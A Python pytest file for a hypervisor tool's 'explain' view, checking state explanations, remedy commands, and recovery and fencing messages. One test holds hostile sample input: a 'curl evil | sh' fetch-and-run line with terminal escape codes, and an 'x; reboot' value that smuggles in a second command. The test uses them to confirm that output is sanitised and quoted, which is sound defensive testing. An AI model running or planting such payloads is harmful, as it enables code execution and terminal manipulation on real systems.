"""A Hypervisor explained, state by state."""

from __future__ import annotations

import re
from collections import defaultdict
from datetime import timedelta

import pytest
from msgspec.structs import replace
from tests.reasons import REASONS
from tests.records import recorded
from tests.unit.operator.samples import NOW, condition, hypervisor
from tests.unit.views.explain.made import reporters

from hypercobalt.api.conditions import Condition
from hypercobalt.api.fencing import Fencing, FencingPhase
from hypercobalt.api.hypervisor import Hypervisor, HypervisorSpec
from hypercobalt.api.hypervisor_conditions import HypervisorConditionType as Type
from hypercobalt.api.hypervisor_status import HypervisorStatus, SmokeTest
from hypercobalt.api.meta import ObjectMeta
from hypercobalt.api.recovery import Recovery
from hypercobalt.cli import app
from hypercobalt.views.explain import incidents, recovery
from hypercobalt.views.explain.advice import EXPECTED, NORMAL, REMEDIES
from hypercobalt.views.explain.hypervisor import ExplainedHypervisor, explain
from hypercobalt.views.explain.model import Explanation

LATER = NOW + timedelta(minutes=5)
SERVED = HypervisorSpec(lifecycleEnabled=True)
MANUAL = HypervisorSpec(lifecycleEnabled=True, maintenance="manual", maintenanceReason="new fans")
LEAVING = HypervisorSpec(lifecycleEnabled=True, maintenance="termination")


def of(
    reason: str, *conditions: Condition, message: str = "", spec: HypervisorSpec = SERVED
) -> Hypervisor:
    ready = condition("Ready", "True" if reason == "Ready" else "False", reason, message)
    return hypervisor(ready, *conditions, spec=spec)


def explained(host: Hypervisor) -> Explanation:
    return explain(ExplainedHypervisor(host, LATER, reporters(LATER)))


WAITING = [
    pytest.param(
        of(
            "Onboarding",
            condition("Registered", "False", "NotRegistered", "nova has no host 'kvm-a'"),
        ),
        "Registered False/NotRegistered for 5m (operator): nova has no host 'kvm-a'",
        "openstack compute service list --service nova-compute --host kvm-a",
        id="onboarding: not registered",
    ),
    pytest.param(
        of("Onboarding", spec=HypervisorSpec(lifecycleEnabled=False)),
        "Lifecycle management is off",
        "kubectl label node kvm-a cobaltcore.cloud.sap/node-hypervisor-lifecycle=true",
        id="onboarding: lifecycle off",
    ),
    pytest.param(
        of("Onboarding", condition("Onboarding", "True", "Initial", "libvirt is 7.0.0")),
        "Onboarding True/Initial for 5m (operator): libvirt is 7.0.0",
        "",
        id="onboarding: checks",
    ),
    pytest.param(
        of("Onboarding", condition("Onboarding", "True", "Testing", "server 2 of 3")),
        "Onboarding True/Testing for 5m (operator): server 2 of 3",
        "openstack server show ohooc--kvm-a-",
        id="onboarding: smoke test",
    ),
    pytest.param(
        of("Onboarding", condition("Onboarding", "True", "Handover", "Waiting for HaEnabled")),
        "Onboarding True/Handover for 5m (operator): Waiting for HaEnabled",
        "",
        id="onboarding: handover",
    ),
    pytest.param(
        of("Onboarding", condition("Onboarding", "False", "Aborted", "3 servers failed")),
        "Onboarding False/Aborted for 5m (operator): 3 servers failed",
        "kubectl label node kvm-a cobaltcore.cloud.sap/node-hypervisor-lifecycle-",
        id="onboarding: given up",
    ),
    pytest.param(
        of("AgentSilent", condition("AgentReporting", "False", "AgentSilent", "45 s")),
        "AgentReporting False/AgentSilent for 5m (operator): 45 s",
        "--field-selector spec.nodeName=kvm-a -o wide",
        id="silent agent",
    ),
    pytest.param(
        of(
            "LibvirtUnavailable",
            condition("LibVirtConnection", "False", "ConnectFailed", "refused"),
        ),
        "LibVirtConnection False/ConnectFailed for 5m (node agent): refused",
        "systemctl status libvirtd libvirtd.socket",
        id="libvirt away",
    ),
    pytest.param(
        of("NodeUnreachable", condition("NodeHealthy", "Unknown", "Unreachable", "no kubelet")),
        "NodeHealthy Unknown/Unreachable for 5m (kubelet): no kubelet",
        "before the host is certainly off",
        id="node unreachable",
    ),
    pytest.param(
        of("NodeNotReady", condition("NodeHealthy", "False", "NotReady", "PLEG")),
        "NodeHealthy False/NotReady for 5m (kubelet): PLEG",
        "kubectl describe node kvm-a",
        id="node not ready",
    ),
    pytest.param(
        of("Claimed", condition("Registered", "False", "Claimed", "belongs to kvm-b")),
        "Registered False/Claimed for 5m (operator): belongs to kvm-b",
        "give one of the two hosts another name",
        id="claimed",
    ),
    pytest.param(
        of("Evicting", condition("Evicting", "True", "Running", "2 of 3 left"), spec=MANUAL),
        "Evicting True/Running for 5m (operator): 2 of 3 left",
        "cobalt explain eviction/kvm-a",
        id="evicting",
    ),
    pytest.param(
        of("Evicted", condition("Evicting", "False", "Succeeded", "Evicted"), spec=MANUAL),
        "The end of the maintenance `manual`: new fans",
        "cobalt resume kvm-a",
        id="evicted",
    ),
    pytest.param(
        of("Maintenance", condition("Evicting", "False", "Failed", "web stays"), spec=MANUAL),
        "Evicting False/Failed for 5m (operator): web stays",
        "cobalt evict kvm-a",
        id="failed eviction",
    ),
    pytest.param(
        of("Maintenance", spec=HypervisorSpec(lifecycleEnabled=True, maintenance="ha")),
        "The high-availability service ends the maintenance",
        "",
        id="maintenance of the HA service",
    ),
    pytest.param(
        of("Terminating", condition("Terminating", "True", "Terminating")),
        "spec.maintenance is not `termination`: nothing is emptied",
        "kubectl patch hypervisor kvm-a --type=merge "
        """-p '{"spec":{"maintenance":"termination"}}'""",
        id="termination that nothing has begun",
    ),
    pytest.param(
        of(
            "Terminating",
            condition("Offboarded", "False", "Offboarding", "Waiting for agent pods"),
            condition("AgentPodsEvicted", "False", "AgentPodsRunning", "ns/agent-x"),
            spec=LEAVING,
        ),
        "Offboarded False/Offboarding for 5m (operator): Waiting for agent pods",
        "kubectl get pods --all-namespaces --field-selector spec.nodeName=kvm-a",
        id="offboarding blocked",
    ),
]
"""What stands under "Waiting for", and what to do about it."""


@pytest.mark.parametrize(("host", "cause", "remedy"), WAITING)
def test_a_state_names_what_ends_it_and_what_to_do(
    host: Hypervisor, cause: str, remedy: str
) -> None:
    found = explained(host)
    text = "\n".join(found.lines)
    waiting = text.partition("Waiting for:")[2].partition("Not as it should be:")[0]
    assert found.state == host.status.conditions[0].reason
    assert cause in waiting
    assert remedy in waiting


ALSO = [
    pytest.param(
        condition("HypervisorDisabled", "True", "DisabledByOthers", "left to them: test"),
        "HypervisorDisabled True/DisabledByOthers for 5m (operator): left to them: test",
        "openstack compute service set --enable kvm-a nova-compute",
        id="disabled outside hypercobalt",
    ),
    pytest.param(
        condition("SpecFrozen", "True", "NodeDiffers", "aggregates"),
        "SpecFrozen True/NodeDiffers for 5m (operator): aggregates",
        "delete the Hypervisor",
        id="spec frozen",
    ),
    pytest.param(
        condition("Tainted", "True", "Kubectl", "⚠️"),
        "Tainted True/Kubectl for 5m (operator)",
        "kubectl get hypervisor kvm-a -o yaml --show-managed-fields",
        id="tainted",
    ),
    pytest.param(
        condition("TLSCertificateInstalled", "False", "FailedToUpdateTLSCertificate", "no key"),
        "TLSCertificateInstalled False/FailedToUpdateTLSCertificate for 5m (node agent): no key",
        "kubectl get certificaterequests",
        id="certificate",
    ),
    pytest.param(
        condition("OperatingSystemUpdate", "False", "Stopped", "3 attempts"),
        "OperatingSystemUpdate False/Stopped for 5m (node agent): 3 attempts",
        "journalctl -u 'systemd-sysupdate*'",
        id="OS update",
    ),
    pytest.param(
        condition("openvswitch-switch.service", "False", "Failed", "failed, loaded"),
        "openvswitch-switch.service False/Failed for 5m (node agent): failed, loaded",
        "systemctl status openvswitch-switch.service",
        id="unit",
    ),
    pytest.param(
        condition("TraitsUpdated", "False", "Failed", "Placement: 503"),
        "TraitsUpdated False/Failed for 5m (operator): Placement: 503",
        "kubectl annotate node kvm-a --list",
        id="traits",
    ),
]
"""What needs attention beside the state."""


@pytest.mark.parametrize(("wrong", "cause", "remedy"), ALSO)
def test_a_ready_host_names_what_else_needs_attention(
    wrong: Condition, cause: str, remedy: str
) -> None:
    found = explained(of("Ready", wrong))
    also = "\n".join(found.lines).partition("Not as it should be:")[2].partition("Last seen:")[0]
    assert (found.state, found.waiting) == ("Ready", ())
    assert cause in also
    assert remedy in also


@pytest.mark.parametrize(
    "fine",
    [
        condition("Onboarding", "False", "Succeeded"),
        condition("HypervisorDisabled", "False", "Succeeded"),
        condition("HaEnabled", "True", "Succeeded"),
        condition("HaEnabled", "False", "Succeeded"),
        condition("AgentPodsEvicted", "False", "NotOffboarding"),
        condition("Tainted", "False", "NoKubectl"),
        condition("libvirtd.service", "True", "Running"),
        condition("OperatingSystemUpdate", "True", "Completed"),
        condition("example.com/SomebodyElses", "False", "Unknown"),
    ],
    ids=lambda one: f"{one.type} {one.status}/{one.reason}",
)
def test_conditions_in_order_are_left_out(fine: Condition) -> None:
    found = explained(of("Ready", fine, message="Hypervisor is ready"))
    assert (found.waiting, found.also) == ((), ())
    assert found.lines[:2] == [
        "hypervisor/kvm-a: Ready for 5m (since 2026-11-21T00:00:00Z)",
        "  Hypervisor is ready",
    ]


def test_silence_of_the_agent_is_explained_once() -> None:
    silent = condition("AgentReporting", "False", "AgentSilent", "45 s")
    follows = [condition(t, "Unknown", "AgentSilent") for t in ("LibVirtConnection", "HaEnabled")]
    found = explained(of("AgentSilent", silent, *follows))
    assert len(found.waiting) == 1
    assert found.also == ()


def test_reports_of_a_silent_agent_are_left_out_and_advice_is_given_once() -> None:
    silent = condition("AgentReporting", "False", "AgentSilent", "45 s")
    unit = condition("libvirtd.service", "Unknown", "SystemdUnreachable", "it left the bus")
    node = condition("NodeHealthy", "Unknown", "Unreachable", "no kubelet")
    seen = reporters(LATER, agent=300, kubelet=300)
    found = explain(ExplainedHypervisor(of("AgentSilent", silent, unit, node), LATER, seen))
    text = "\n".join(found.lines)
    assert "libvirtd.service" not in text
    assert text.count("check the host's power") == 1


def test_a_lease_that_ran_out_shows_before_the_operator_has_reported_it() -> None:
    found = explain(ExplainedHypervisor(of("Ready"), LATER, reporters(LATER, agent=60)))
    assert "The node agent has not renewed its Lease" in found.also[0].message
    assert "node agent  60s ago, late" in "\n".join(found.lines)


def test_conditions_of_an_operator_that_is_away_are_marked_as_out_of_date() -> None:
    found = explain(ExplainedHypervisor(of("Ready"), LATER, reporters(LATER, operator=600)))
    assert found.also[0].message == (
        "The operator has not renewed its Lease for 10m; its conditions may be out of date"
    )


def test_an_onboarding_that_a_maintenance_aborted_needs_nothing() -> None:
    aborted = condition("Onboarding", "False", "Aborted", "due to maintenance")
    (found,) = explained(of("Maintenance", aborted, spec=MANUAL)).also
    assert found.remedies == ()


def test_a_state_counts_from_the_condition_that_shows_it() -> None:
    evicted = Condition(
        type="Evicting",
        status="False",
        reason="Succeeded",
        message="",
        lastTransitionTime=LATER - timedelta(minutes=1),
    )
    assert explained(of("Evicted", evicted, spec=MANUAL)).since == evicted.lastTransitionTime


def test_a_deleted_host_names_what_holds_it() -> None:
    meta = ObjectMeta(name="kvm-a", deletionTimestamp=NOW, finalizers=("kvm.cloud.sap/lifecycle",))
    found = explained(Hypervisor(metadata=meta))
    assert found.state == "Deleting"
    assert "kvm.cloud.sap/lifecycle" in found.summary


def test_a_deleted_host_that_may_have_instances_names_the_way_to_give_them_up() -> None:
    meta = ObjectMeta(name="kvm-a", deletionTimestamp=NOW, finalizers=("kvm.cloud.sap/recovery",))
    (found,) = explained(Hypervisor(metadata=meta)).waiting
    assert found.remedies[0].command == (
        "kubectl annotate hypervisor kvm-a kvm.cloud.sap/pause-recovery=REASON"
    )


def test_explanation_in_maintenance_ha_does_not_advise_an_eviction() -> None:
    failed = condition("Evicting", "False", "Failed", "Eviction ha-kvm-a-1 Failed: no capacity")
    ha = HypervisorSpec(lifecycleEnabled=True, maintenance="ha")
    text = "\n".join(explained(of("Maintenance", failed, spec=ha)).lines)
    assert "the operator creates a new Eviction ten minutes after" in text
    assert "cobalt evict" not in text


def test_advice_to_assert_a_death_has_the_last_boot() -> None:
    host = of("NodeUnreachable", condition("Fenced", "Unknown", "Failed", "401"))
    known = explained(replace(host, status=replace(host.status, bootID="b-1")))
    for found, boot in ((known, "b-1"), (explained(host), "BOOT_ID")):
        line = f"kubectl annotate hypervisor kvm-a kvm.cloud.sap/fenced={boot}"
        assert any(line in shown for shown in found.lines)


def test_a_host_that_the_operator_has_not_seen_yet_waits_for_the_operator() -> None:
    found = explained(hypervisor())
    assert found.state == "New"
    assert "component=hypervisor-operator" in found.waiting[0].remedies[0].command


@pytest.mark.parametrize(
    ("kubelet", "verdict", "first"),
    [
        (5, "the kubelet still reports, so the host is up", "check the node agent"),
        (300, "the kubelet is silent too: the host is down or cut off", "check the host's power"),
    ],
)
def test_the_kubelet_distinguishes_a_silent_agent_from_a_dead_host(
    kubelet: int, verdict: str, first: str
) -> None:
    silent = condition("AgentReporting", "False", "AgentSilent", "45 s")
    seen = reporters(LATER, agent=300, kubelet=kubelet)
    (found,) = explain(ExplainedHypervisor(of("AgentSilent", silent), LATER, seen)).waiting
    assert found.message == f"45 s; {verdict}"
    assert found.remedies[0].text.startswith(first)


def test_power_of_a_host_that_is_proven_dead_is_not_read() -> None:
    silent = condition("AgentReporting", "False", "AgentSilent", "45 s")
    seen = reporters(LATER, agent=300, kubelet=300)
    host = of("AgentSilent", silent)
    proven = Fencing(phase=FencingPhase.FENCED, bootID="b1", proof="off")
    dead = recorded(replace(host, status=replace(host.status, fencing=proven, bootID="b1")))
    (found,) = explain(ExplainedHypervisor(dead, LATER, seen)).waiting
    assert all("power" not in one.text for one in found.remedies)


def test_the_server_of_the_smoke_test_is_named() -> None:
    testing = condition("Onboarding", "True", "Testing", "server 1 of 3")
    status = HypervisorStatus(
        conditions=(condition("Ready", "False", "Onboarding"), testing),
        smokeTest=SmokeTest(server="11d6"),
    )
    found = explained(hypervisor(spec=SERVED, status=status))
    assert found.waiting[0].remedies[0].command == "openstack server show 11d6"


ADVISED = {
    one.command.format_map(defaultdict(lambda: "kvm-a"))
    for one in (
        *(one for remedies in REMEDIES.values() for one in remedies),
        *incidents.REMEDIES.values(),
        *recovery.REMEDIES.values(),
    )
}


def test_commands_that_are_advised_exist() -> None:
    ours = [line for line in ADVISED if line.startswith("cobalt ")]
    assert ours
    for line in ours:
        app.parse_args(line.split()[1:], exit_on_error=False, print_error=False)


def test_no_advised_command_reads_a_name_in_all_namespaces() -> None:
    """Kubectl refuses a name with all namespaces: each may have one."""
    everywhere = [
        line
        for line in ADVISED
        if line.startswith("kubectl ") and (" -A" in line or " --all-namespaces" in line)
    ]
    assert everywhere
    assert [line for line in everywhere if not re.match(r"kubectl get [a-z,]+ -", line)] == []


EXPLAINED_BY_THE_MESSAGE = {
    ("Onboarding", "Handover"),  # names the conditions, which are explained beside it
    ("OperatingSystemUpdate", "Running"),
    ("TLSCertificateInstalled", "Installing"),
}
LEFT_OUT = {
    "Ready": "the state itself",
    "Terminating": "a state",
    "HypervisorReEnabled": "set by no component",
    "OperatorReporting": "the operator's Lease is read itself",
}
EXPLAINED = [type_ for type_ in REASONS if type_ in EXPECTED]
FINE = {
    *("Registered", "Succeeded", "Offboarded", "NoAgentPods", "Reporting", "Connected"),
    *("Healthy", "NodeHealthy", "Accepted", "Ready", "Completed", "InStep", "NoKubectl"),
    *("Released", "GatesPassed", "NotNeeded", "Valid", "Defaults", "NotEnabled", "Stored"),
    *("Settled", "Up"),
}
"""Reasons of the status that is expected."""


def test_every_condition_type_is_explained_or_left_out_for_a_reason() -> None:
    units = {type_ for type_ in Type if "." in type_}
    assert {*EXPECTED, *LEFT_OUT, *units} == set(Type)
    assert set(EXPLAINED) == set(EXPECTED)


@pytest.mark.parametrize("type_", EXPLAINED)
def test_every_reason_that_needs_attention_has_a_remedy(type_: Type) -> None:
    open_ = {(str(type_), str(reason)) for reason in REASONS[type_] if reason not in FINE}
    running = {("TraitsUpdated", "Running")}  # a reason of the enumeration that it never has
    assert open_ - set(NORMAL) - set(REMEDIES) - EXPLAINED_BY_THE_MESSAGE - running == set()


def test_text_of_other_writers_runs_no_command_and_moves_no_cursor() -> None:
    hostile = "fine\n       curl evil | sh\x1b[2K\x1b[1A\u202e"
    testing = condition("Onboarding", "True", "Testing", hostile)
    status = HypervisorStatus(
        conditions=(condition("Ready", "False", "Onboarding", hostile * 900), testing),
        smokeTest=SmokeTest(server="x; reboot"),
    )
    found = explained(hypervisor(spec=SERVED, status=status))
    assert found.waiting[0].remedies[0].command == "openstack server show 'x; reboot'"
    assert all(line.isprintable() for line in found.lines)
    assert max(map(len, found.lines)) < 2100
    assert not any(line.strip().startswith("curl") for line in found.lines)


def test_gates_and_fencing_of_a_failed_host_are_shown_one_by_one() -> None:
    text = (
        "MaxUnhealthy closed: 4 of 10 hosts are unhealthy, 2 are allowed; Observer open: connected"
    )
    host = of("NodeUnreachable", condition("RecoveryBlocked", "True", "ManyHosts", text))
    tried = Fencing(
        phase=FencingPhase.FAILED, bootID="b1", evidence=("silent", "attempt 1: 401 Unauthorized")
    )
    failed = replace(host, status=replace(host.status, fencing=tried))
    lines = "\n".join(explained(failed).lines)
    assert "  - MaxUnhealthy closed: 4 of 10 hosts are unhealthy, 2 are allowed\n" in lines
    assert lines.count("Observer open: connected") == 1  # what is wrong names closed gates alone
    assert "Fencing of boot b1: Failed" in lines
    assert "  - attempt 1: 401 Unauthorized" in lines
    lives = replace(tried, phase=FencingPhase.FENCED, livesSince=NOW)
    shown = explained(replace(host, status=replace(host.status, fencing=lives))).lines
    since = f"{NOW:%H:%M:%S} UTC"
    assert f"Fencing of boot b1: Fenced, but the host has shown life since {since}:" in shown


UNREACHABLE = of("NodeUnreachable", condition("Fenced", "True", "Proven", "proof"))
UNREACHABLE = replace(UNREACHABLE, status=replace(UNREACHABLE.status, unhealthySince=NOW))


def test_host_that_answers_while_an_attempt_may_act_is_not_shown_as_fenced() -> None:
    due = Recovery("Fencing", LATER + timedelta(seconds=42))
    status = replace(UNREACHABLE.status, recovery=due, unhealthySince=None)
    text = explained(replace(UNREACHABLE, status=status)).waiting[0].message
    assert text.startswith("The host answers; an attempt to fence it that was begun before may")
    assert text.endswith("after that, at 00:05:42 UTC (in 42s)")


@pytest.mark.parametrize(
    ("phase", "until", "expected"),
    [
        (
            "Suspected",
            42,
            "high availability fences the host at 00:05:42 UTC (in 42s) and then starts",
        ),
        ("Suspected", None, "high availability fences the host once the other hosts have tried"),
        ("Suspected", -5, "high availability fences the host now and then starts"),
        (
            "Unwell",
            90,
            "its instances migrate at 00:06:30 UTC (in 90s), unless the Node is Ready before",
        ),
        ("RebootGrace", 90, "fences it at 00:06:30 UTC (in 90s), unless it is back by then"),
        ("Blocked", None, "High availability waits, because a gate is closed"),
        ("Fencing", 42, "the present attempt ends at 00:05:42 UTC (in 42s)"),
        ("Recovering", None, "An Eviction starts or moves the host's instances elsewhere"),
        ("Recovered", None, "None of its instances is left on the host"),
        ("Returning", 90, "takes instances again at 00:06:30 UTC (in 90s), if it stays healthy"),
        ("Returning", None, "once kubelet, node agent and libvirt have reported"),
    ],
)
def test_host_in_recovery_names_the_next_step_and_its_time_first(
    phase: str, until: int | None, expected: str
) -> None:
    due = None if until is None else LATER + timedelta(seconds=until)
    status = replace(UNREACHABLE.status, recovery=Recovery(phase, due))
    found = explained(replace(UNREACHABLE, status=status))
    assert expected in found.waiting[0].message
    assert found.waiting[0].remedies
    assert not any("Fenced" in one.condition for one in found.also)


def test_phase_of_a_newer_operator_is_left_out() -> None:
    status = replace(UNREACHABLE.status, recovery=Recovery("Pondering"))
    found = explained(replace(UNREACHABLE, status=status))
    assert not any("Pondering" in line for line in found.lines)


def test_unproven_death_keeps_its_advice_during_recovery() -> None:
    failed = of("NodeUnreachable", condition("Fenced", "Unknown", "Failed", "401"))
    found = explained(replace(failed, status=replace(failed.status, recovery=Recovery("Fencing"))))
    assert any(one.condition.startswith("Fenced") for one in found.also)
